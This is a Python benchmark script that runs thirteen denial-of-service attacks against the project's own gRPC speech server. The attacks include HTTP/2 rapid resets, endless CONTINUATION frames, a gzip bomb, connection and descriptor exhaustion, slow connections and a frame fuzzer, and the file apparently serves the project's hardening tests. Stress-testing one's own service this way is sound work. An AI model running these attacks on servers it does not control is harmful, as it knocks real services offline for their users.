#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
"""Attacks on a running ese-server, by clients that break or exhaust what they can.

    bench/attacks.py NAME HOST:PORT --seconds 60 --rate 100

Attacks on /metrics (ON_METRICS) take the address of /metrics, all others that of gRPC. An attack makes at most
--rate actions a second, by default its full rate, with the lowest priority for the processors (--nice 19). It
begins again when the server closes its connection. At the end it prints a line of JSON with the number of its
actions and of broken connections. bench/hardening.py measures what the attacks do to live streams, and
tests/attack_test.py checks that they do little."""
import argparse
import collections
import functools
import itertools
import json
import os
import pathlib
import random
import resource
import socket
import struct
import subprocess
import sys
import time
import zlib

ROOT = pathlib.Path(__file__).resolve().parent.parent
sys.path.insert(0, str(ROOT))
from bench import raw_http2 as h2  # noqa: E402

INFER = h2.call_headers("/ese.v1.SpeechInference/StreamingInfer")
INFER_GZIP = h2.call_headers("/ese.v1.SpeechInference/StreamingInfer", (b"grpc-encoding", b"gzip"))
REFLECTION = h2.call_headers("/grpc.reflection.v1alpha.ServerReflection/ServerReflectionInfo")
SEED = 1
# Numbers of the fields of StreamingConfig; it has no field 1000.
MODEL, RETURN_POSTERIORS, RESUME_TOKEN, TENANT, UNKNOWN = 1, 4, 6, 8, 1000


class Pace:
    """An attack's end time and its rate. Times are of time.monotonic()."""

    def __init__(self, until, rate):
        self.until, self.actions = until, 0
        self.connections = self.broken = 0  # how often the attack has begun, and how often that failed
        self._distance, self._next = 1 / rate, time.monotonic()

    def running(self):
        return time.monotonic() < self.until

    def turn(self):
        """Waits for the time of the next action. Returns False if the attack is over."""
        now = time.monotonic()
        # Actions that were missed are made up for only as far as the last tenth of a second.
        self._next = max(self._next + self._distance, now - 0.1)
        if self._next > now:
            time.sleep(max(0, min(self._next, self.until) - now))
        if not self.running():
            return False
        self.actions += 1
        return True


def proto(number, value):
    """A field of a protobuf message: bytes, or a small number."""
    def varint(n):
        return bytes([n]) if n < 128 else bytes([n % 128 + 128]) + varint(n // 128)
    if isinstance(value, int):
        return varint(8 * number) + varint(value)
    return varint(8 * number + 2) + varint(len(value)) + value


def config(*fields):
    """A message with the config of a stream of audio."""
    return h2.grpc_message(proto(1, proto(2, b"") + b"".join(fields)))


def connection_churn(address, pace):
    """Connections that begin HTTP/2 and are reset at once."""
    while pace.turn():
        h2.Connection(address).reset()


def hold(address, pace, count, first_bytes):
    """Holds `count` connections, and replaces those that the server closes. Each begins with the next of
    `first_bytes` and reads nothing."""
    held, texts = collections.deque(), itertools.cycle(first_bytes)
    try:
        while pace.turn():
            if len(held) == count:
                oldest = held.popleft()
                try:
                    closed = not oldest.recv(1, socket.MSG_PEEK)
                except BlockingIOError:
                    closed = False
                if not closed:
                    held.append(oldest)
                    continue
                oldest.close()
            held.append(socket.create_connection(address, timeout=h2.PATIENCE_SECONDS))
            held[-1].sendall(next(texts))
            held[-1].setblocking(False)
    finally:
        for connection in held:
            connection.close()


def silent_connections(address, pace):
    """500 connections that never send a byte."""
    hold(address, pace, 500, [b""])


def descriptor_exhaustion(address, pace):
    """1,500 idle HTTP/2 connections, which then all leave at once, again and again. To exhaust the server's
    descriptors, it must have a lower limit of them."""
    with_http2 = []
    try:
        while len(with_http2) < 1500 and pace.turn():
            with_http2.append(h2.Connection(address))
    finally:
        for connection in with_http2:
            connection.reset()


def rapid_resets(address, pace):
    """Calls that are reset at once."""
    with h2.Connection(address) as connection:
        while pace.turn():
            stream = connection.begin_call(
                INFER, lambda s: h2.frame(h2.RST_STREAM, 0, s, struct.pack(">I", h2.CANCEL)))
            del connection.open[stream]
            connection.pump()


def headers_without_config(address, pace):
    """20,000 calls on one connection that send no config."""
    with h2.Connection(address) as connection:
        while pace.turn():
            if len(connection.open) < 20_000:
                connection.begin_call(INFER)
            connection.pump()


def endless_continuation(address, pace):
    """A call whose headers never end: of many fields, of one field, of references to the static table, or empty."""
    field = h2.header_block((b"x-endless", b"x" * 1000))
    first, block = [(INFER, field * (h2.MAX_PAYLOAD // len(field))),
                    # A field whose name is announced to be longer than 200 MB.
                    (INFER + b"\0\x7f\xff\xff\xff\x7f", b"x" * h2.MAX_PAYLOAD),
                    (INFER, b"\x82" * h2.MAX_PAYLOAD),
                    (INFER, b"")][pace.connections % 4]
    with h2.Connection(address) as connection:
        connection.send(h2.frame(h2.HEADERS, 0, 1, first))
        for _ in range(500):
            if not pace.turn():
                return
            connection.send(h2.frame(h2.CONTINUATION, 0, 1, block))
            connection.pump()


@functools.cache
def gzip_of_zeros(megabytes):
    """Compresses zeros without compressing all of them: after a full flush, equal input gives equal output."""
    part = bytes(8_000_000)
    raw = zlib.compressobj(9, zlib.DEFLATED, -zlib.MAX_WBITS)
    body = raw.compress(part) + raw.flush(zlib.Z_FULL_FLUSH)
    checksum = 0
    for _ in range(megabytes // 8):
        checksum = zlib.crc32(part, checksum)
    head = bytes([31, 139, 8, 0, 0, 0, 0, 0, 0, 255])
    return (head + body * (megabytes // 8) + raw.flush(zlib.Z_FINISH) +
            struct.pack("<II", checksum, megabytes * 1_000_000))


@functools.cache
def bomb():
    return h2.grpc_message(gzip_of_zeros(1000), compressed=True)


def gzip_bomb(address, pace):
    """Messages of 1 MB that inflate to 1,000 MB."""
    with h2.Connection(address) as connection:
        while pace.turn():
            connection.send_data(connection.begin_call(INFER_GZIP), bomb(), pace.running)


def long_strings(address, pace):
    """Up to 1,000 open calls, each with another tenant of 1 MB. Every fourth call has another long field instead."""
    fields = itertools.cycle([TENANT, TENANT, TENANT, MODEL, TENANT, TENANT, TENANT, RESUME_TOKEN, TENANT, TENANT,
                              TENANT, UNKNOWN])
    filler = b"x" * 1_000_000
    with h2.Connection(address) as connection:
        for call, field in enumerate(fields):
            if not pace.turn():
                return
            if len(connection.open) < 1000:
                message = config(proto(field, str(call).encode() + filler))
                connection.send_data(connection.begin_call(INFER), message, pace.running)
            connection.pump()


def unread_answers(address, pace):
    """40 streams that ask for posteriors and send audio as fast as they may, but let the server send nothing."""
    posteriors = config(proto(RETURN_POSTERIORS, 1))
    chunk = h2.grpc_message(proto(2, bytes(3200)))
    with h2.Connection(address, h2.settings(_4=0)) as connection:
        for turn in itertools.count():
            if not pace.turn():
                return
            if len(connection.open) < 40:
                connection.send_data(connection.begin_call(INFER), posteriors, pace.running)
            connection.pump()
            streams = list(connection.open)
            stream = streams[turn % len(streams)] if streams else 0
            if connection.room(stream) >= len(chunk):
                connection.send_data(stream, chunk, pace.running)


def reflection_streams(address, pace):
    """2,000 open reflection streams, 100 on each connection."""
    list_services = h2.grpc_message(proto(7, b""))
    connections = [h2.Connection(address) for _ in range(20)]
    try:
        for connection in itertools.cycle(connections):
            if not pace.turn():
                return
            if len(connection.open) < 100:
                connection.send_data(connection.begin_call(REFLECTION), list_services, pace.running)
            connection.pump()
    finally:
        for connection in connections:
            connection.reset()


def scrapes(address, pace):
    """Scrapes, one after another."""
    while pace.turn():
        with socket.create_connection(address, timeout=h2.PATIENCE_SECONDS) as connection:
            connection.sendall(b"GET /metrics HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n")
            while connection.recv(1 << 16):
                pass


def silent_scrapes(address, pace):
    """200 connections to /metrics that send nothing, half a request, or requests whose answers they never read."""
    request = b"GET /metrics HTTP/1.1\r\nHost: localhost\r\n\r\n"
    hold(address, pace, 200, [b"", request[:20], request * 100])


def mutate(frames, random_):
    """Changes one of the frames, or their order, against the rules."""
    def bit_flips(data):
        data = bytearray(data)
        for _ in range(random_.randint(1, 8)):
            data[random_.randrange(len(data))] ^= 1 << random_.randrange(8)
        return bytes(data)

    def any_frame(_):
        return h2.frame(random_.randrange(16), random_.randrange(256),
                        random_.choice([0, 1, 2, 3, 101, (1 << 31) - 1]),
                        random_.randbytes(random_.choice([0, 1, 4, 5, 8, 100, 20_000])))

    changes = [bit_flips, any_frame, lambda data: random_.randbytes(3) + data[3:],
               lambda data: data[:random_.randrange(len(data))], lambda data: data + data,
               lambda data: any_frame(data) + data]
    index = random_.randrange(len(frames))
    frames[index] = random_.choice(changes)(frames[index])
    if random_.random() < 0.2:
        random_.shuffle(frames)
    return b"".join(frames)


def malformed_frames(address, pace):
    """Connections whose frames a seeded fuzzer has changed."""
    random_ = random.Random(SEED)
    while pace.turn():
        frames = [h2.PREFACE, h2.frame(h2.SETTINGS, 0, 0, h2.settings(_4=1 << 20, _5=1 << 14)),
                  h2.frame(h2.HEADERS, h2.END_HEADERS, 1, INFER),
                  h2.frame(h2.DATA, 0, 1, config(proto(RETURN_POSTERIORS, 1))),
                  h2.frame(h2.PING, 0, 0, bytes(8)),
                  h2.frame(h2.WINDOW_UPDATE, 0, 0, struct.pack(">I", 1000)),
                  h2.frame(h2.PRIORITY, 0, 1, bytes(5)),
                  h2.frame(h2.HEADERS, 0, 3, INFER[:10]), h2.frame(h2.CONTINUATION, h2.END_HEADERS, 3, INFER[10:]),
                  h2.frame(h2.DATA, h2.END_STREAM, 1, h2.grpc_message(proto(2, bytes(3200)))),
                  h2.frame(h2.RST_STREAM, 0, 3, struct.pack(">I", h2.CANCEL)),
                  h2.frame(h2.GOAWAY, 0, 0, bytes(8))]
        try:
            with socket.create_connection(address, timeout=h2.PATIENCE_SECONDS) as connection:
                connection.sendall(mutate(frames, random_))
                connection.shutdown(socket.SHUT_WR)
                connection.recv(1 << 16)
        except OSError:
            continue  # The next connection must be another one, so the fuzzer does not begin again.


# The attacks and their full rates, in actions a second.
ATTACKS = {connection_churn: 2000, silent_connections: 1000, descriptor_exhaustion: 2000, rapid_resets: 5000,
           headers_without_config: 5000, endless_continuation: 2000, gzip_bomb: 2, long_strings: 50,
           unread_answers: 2000, reflection_streams: 1000, scrapes: 100, silent_scrapes: 200,
           malformed_frames: 1000}
BY_NAME = {attack.__name__: attack for attack in ATTACKS}
ON_METRICS = {"scrapes", "silent_scrapes"}
# Content that takes a second to make, so each attack makes it before its time begins.
PREPARATIONS = {"gzip_bomb": bomb}


def run(name, address, pace):
    """Runs an attack until its end."""
    while pace.running():
        try:
            BY_NAME[name](address, pace)
        except OSError:
            pace.broken += 1
            time.sleep(0.01)
        pace.connections += 1


def start(name, addresses, seconds, nice=19):
    """Starts an attack as a process of its own. `addresses` are the lines of the server's --ready-file."""
    address = addresses["metrics" if name in ON_METRICS else "grpc"]
    return subprocess.Popen([sys.executable, __file__, name, address, "--seconds", str(seconds), "--nice", str(nice)],
                            stdout=subprocess.PIPE)


def main():
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("name", choices=BY_NAME)
    parser.add_argument("address", metavar="HOST:PORT")
    parser.add_argument("--seconds", type=float, default=60)
    parser.add_argument("--rate", type=float, help="actions a second (default: the attack's full rate)")
    parser.add_argument("--nice", type=int, default=19)
    arguments = parser.parse_args()
    os.nice(arguments.nice)
    _, most = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (most, most))
    host, _, port = arguments.address.rpartition(":")
    if arguments.name in PREPARATIONS:
        PREPARATIONS[arguments.name]()
    pace = Pace(time.monotonic() + arguments.seconds, arguments.rate or ATTACKS[BY_NAME[arguments.name]])
    run(arguments.name, (host.strip("[]"), int(port)), pace)
    print(json.dumps({"attack": arguments.name, "actions": pace.actions, "broken_connections": pace.broken}),
          flush=True)


if __name__ == "__main__":
    main()
